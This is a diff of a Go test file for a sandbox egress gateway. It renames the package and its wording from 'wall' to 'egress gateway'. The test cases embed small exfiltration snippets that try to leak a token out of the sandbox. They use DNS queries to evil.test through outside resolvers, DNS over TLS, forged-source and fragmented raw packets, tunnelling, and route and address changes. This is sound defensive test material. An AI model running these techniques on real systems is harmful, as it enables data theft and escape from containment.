@@ -1,4 +1,4 @@
-package wall
+package egress
 
 // An attack is a program that tries to send a token out of a sandbox.
 type attack struct {
@@ -7,7 +7,7 @@ type attack struct {
 	// event is a regular expression that an event of a refusal must match:
 	// "KIND PROTOCOL HOST ADDRESS | RULE | REASON".
 	event string
-	// inside is the reason why nothing reaches the wall, so that there is no event.
+	// inside is the reason why nothing reaches the egress gateway, so that there is no event.
 	inside string
 	// shut is the reason why the attack cannot succeed with an open policy either.
 	shut string
@@ -111,7 +111,7 @@ ask('evil.test', 1, extra=opt)`, event: `lookup .*evil.test`, shut: "our DNS ask
 	{name: "another resolver", code: `return records(udp('8.8.8.8', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*8.8.8.8:53.*resolver`},
 	{name: "another resolver over TCP", code: `return ask_tcp(token + '.evil.test', server='8.8.8.8')[2] or None`, event: `connect tcp .*8.8.8.8:53.*resolver`},
 	{name: "another resolver in IPv6", code: `return records(udp('2620:fe::fe', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*2620:fe::fe.*53.*resolver`},
-	{name: "the wall's own resolver", code: `return records(udp('9.9.9.53', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*9.9.9.53:53.*resolver`},
+	{name: "the egress gateway's own resolver", code: `return records(udp('9.9.9.53', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*9.9.9.53:53.*resolver`},
 	{name: "DNS over TLS", code: `
 with connect('9.9.9.9', 853) as s:
     return got(drain(secure(s, 'dns.quad9.net', ['dot'])))`, event: `connect tcp .*9.9.9.9:853.*resolver`},
@@ -239,30 +239,30 @@ for a in ('224.0.0.251', '255.255.255.255', '10.88.0.3'):
         try:
             s.sendto(token.encode(), (a, 5353))
         except OSError:
-            pass`, inside: "every system sends such; the wall drops them silently", shut: "they lead nowhere"},
+            pass`, inside: "every system sends such; the egress gateway drops them silently", shut: "they lead nowhere"},
 }
 
 // Attacks with packets, by root. Where the sandbox's kernel refuses the
-// socket, nothing reaches the wall.
+// socket, nothing reaches the egress gateway.
 var packetAttacks = []attack{
 	{name: "a raw packet with a forged source", code: `raw('93.184.217.130', ip4('198.51.100.7', '93.184.217.130', 17, datagram('198.51.100.7', '93.184.217.130', 5000, 5000, token.encode())))`,
-		event: `limit .*forged source`, shut: "the wall drops such whatever the policy"},
+		event: `limit .*forged source`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "a fragment", code: `
 whole = datagram('10.88.0.2', '93.184.217.131', 5000, 5000, token.encode() * 40)
 raw('93.184.217.131', ip4('10.88.0.2', '93.184.217.131', 17, whole[:400], fragment=0x2000))
-raw('93.184.217.131', ip4('10.88.0.2', '93.184.217.131', 17, whole[400:], fragment=50))`, event: `limit .*fragment`, shut: "the wall drops such whatever the policy"},
+raw('93.184.217.131', ip4('10.88.0.2', '93.184.217.131', 17, whole[400:], fragment=50))`, event: `limit .*fragment`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "tiny fragments of a TCP header", code: `
 syn = struct.pack('>HHIIBBHHH', 40000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
 raw('93.184.217.132', ip4('10.88.0.2', '93.184.217.132', 6, syn[:8], fragment=0x2000))
-raw('93.184.217.132', ip4('10.88.0.2', '93.184.217.132', 6, syn[8:], fragment=1))`, event: `limit .*fragment`, shut: "the wall drops such whatever the policy"},
+raw('93.184.217.132', ip4('10.88.0.2', '93.184.217.132', 6, syn[8:], fragment=1))`, event: `limit .*fragment`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "loose source routing", code: `
 route = bytes([131, 7, 4]) + socket.inet_aton('10.1.2.3') + b'\0'
 raw('93.184.216.10', ip4('10.88.0.2', '93.184.216.10', 17, datagram('10.88.0.2', '93.184.216.10', 5000, 5000, token.encode()), options=route))`,
-		event: `limit .*options`, shut: "the wall drops such whatever the policy"},
+		event: `limit .*options`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "another protocol", code: `raw('93.184.217.133', ip4('10.88.0.2', '93.184.217.133', 47, b'\0\0\x08\0' + token.encode()))`,
-		event: `limit .*another protocol`, shut: "the wall drops such whatever the policy"},
+		event: `limit .*another protocol`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "IPv4 in IPv4", code: `raw('93.184.217.134', ip4('10.88.0.2', '93.184.217.134', 4, ip4('10.88.0.2', '10.1.2.3', 17, datagram('10.88.0.2', '10.1.2.3', 5000, 5000, token.encode()))))`,
-		event: `limit .*another protocol`, shut: "the wall drops such whatever the policy"},
+		event: `limit .*another protocol`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "a raw UDP packet", shut: "root has no raw sockets", code: `raw('93.184.217.135', ip4('10.88.0.2', '93.184.217.135', 17, datagram('10.88.0.2', '93.184.217.135', 5000, 5000, token.encode())))`,
 		event: `connect udp .*93.184.217.135:5000`},
 	{name: "a frame", shut: "root has no packet sockets", code: `
@@ -273,7 +273,7 @@ frame(b'\xff' * 6, 0x0806, struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + bytes.fro
 return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`, shut: "there is nobody else on the link"},
 	{name: "another address", code: `
 shell('ip addr add 198.51.100.9/24 dev eth0 2>&1; ip addr add 10.1.2.4/16 dev eth0 2>&1')
-return got(udp('93.184.217.137', 5000, token.encode(), source='198.51.100.9'))`, event: `limit .*forged source`, shut: "the wall drops such whatever the policy"},
+return got(udp('93.184.217.137', 5000, token.encode(), source='198.51.100.9'))`, event: `limit .*forged source`, shut: "the egress gateway drops such whatever the policy"},
 	{name: "other routes", code: `
 shell('ip route add 10.1.0.0/16 via 10.88.0.1 2>&1; ip route replace default dev eth0 2>&1; ip route add local 169.254.169.254 dev lo 2>&1')
 return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`},
